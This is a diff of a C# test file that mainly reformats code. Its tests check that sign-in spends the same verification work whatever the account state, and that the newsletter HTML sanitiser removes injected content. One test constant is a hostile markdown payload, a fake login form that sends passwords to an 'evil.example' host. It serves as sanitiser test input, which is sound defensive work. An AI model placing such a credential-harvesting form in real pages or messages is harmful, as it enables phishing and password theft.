@@ -31,7 +31,8 @@ public sealed class SignInAndLinksTests(LiftoffFactory factory) : IClassFixture<
 
         public string HashPassword(AppUser user, string password) => _inner.HashPassword(user, password);
 
-        public PasswordVerificationResult VerifyHashedPassword(AppUser user, string hashedPassword, string providedPassword)
+        public PasswordVerificationResult VerifyHashedPassword(
+            AppUser user, string hashedPassword, string providedPassword)
         {
             counter.Count();
             return _inner.VerifyHashedPassword(user, hashedPassword, providedPassword);
@@ -59,24 +60,31 @@ public sealed class SignInAndLinksTests(LiftoffFactory factory) : IClassFixture<
         await factory.WithScopeAsync(async sp =>
         {
             var db = sp.GetRequiredService<AppDbContext>();
-            await db.Users.Where(u => u.Id == inactive.Id).ExecuteUpdateAsync(u => u.SetProperty(x => x.IsActive, false));
+            await db.Users.Where(u => u.Id == inactive.Id)
+                .ExecuteUpdateAsync(u => u.SetProperty(x => x.IsActive, false));
             await db.Users.Where(u => u.Id == locked.Id)
                 .ExecuteUpdateAsync(u => u.SetProperty(x => x.LockoutEnd, DateTimeOffset.UtcNow.AddHours(1)));
         });
 
         var work = new Dictionary<string, int>();
-        foreach (var (label, email) in new[] { ("known", known.Email), ("unknown", $"nobody-{Guid.NewGuid():N}@test.example"),
-                     ("inactive", inactive.Email), ("locked", locked.Email) })
+        var attempts = new[]
+        {
+            ("known", known.Email), ("unknown", $"nobody-{Guid.NewGuid():N}@test.example"),
+            ("inactive", inactive.Email), ("locked", locked.Email),
+        };
+        foreach (var (label, email) in attempts)
         {
             var client = app.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
             var before = counter.Verifications;
             var response = await LiftoffFactory.PostFormAsync(client, "/Account/SignIn",
                 new() { ["Email"] = email, ["Password"] = "wrong password 123" });
             work[label] = counter.Verifications - before;
-            Assert.Contains(Features.Account.SignInModel.FailureMessage, await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+            var html = await response.Content.ReadAsStringAsync();
+            Assert.Contains(Features.Account.SignInModel.FailureMessage, html, StringComparison.Ordinal);
         }
 
-        Assert.Equal(new Dictionary<string, int> { ["known"] = 1, ["unknown"] = 1, ["inactive"] = 1, ["locked"] = 1 }, work);
+        var once = new Dictionary<string, int> { ["known"] = 1, ["unknown"] = 1, ["inactive"] = 1, ["locked"] = 1 };
+        Assert.Equal(once, work);
     }
 
     [Fact]
@@ -100,11 +108,13 @@ public sealed class SignInAndLinksTests(LiftoffFactory factory) : IClassFixture<
         using var scope = Configured().Services.CreateScope();
         var markdown = scope.ServiceProvider.GetRequiredService<MarkdownRenderer>();
         var builder = scope.ServiceProvider.GetRequiredService<NewsletterMessageBuilder>();
-        const string Hostile = "Hello\n\n<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\">"
-            + "<select><option>a</option></select><textarea>x</textarea><button formaction=\"https://evil.example\">Log in</button></form>";
+        const string Hostile = "Hello\n\n<form action=\"https://evil.example/steal\">"
+            + "<input name=\"password\" type=\"password\"><select><option>a</option></select><textarea>x</textarea>"
+            + "<button formaction=\"https://evil.example\">Log in</button></form>";
 
         var html = markdown.ToSafeHtml(Hostile);
-        var message = builder.Build(1, 1, 42, "kim@customer.example", "Kim", new RenderedContent("News", html, "Hello"));
+        var content = new RenderedContent("News", html, "Hello");
+        var message = builder.Build(1, 1, 42, "kim@customer.example", "Kim", content);
 
         foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<textarea", "evil.example" })
         {
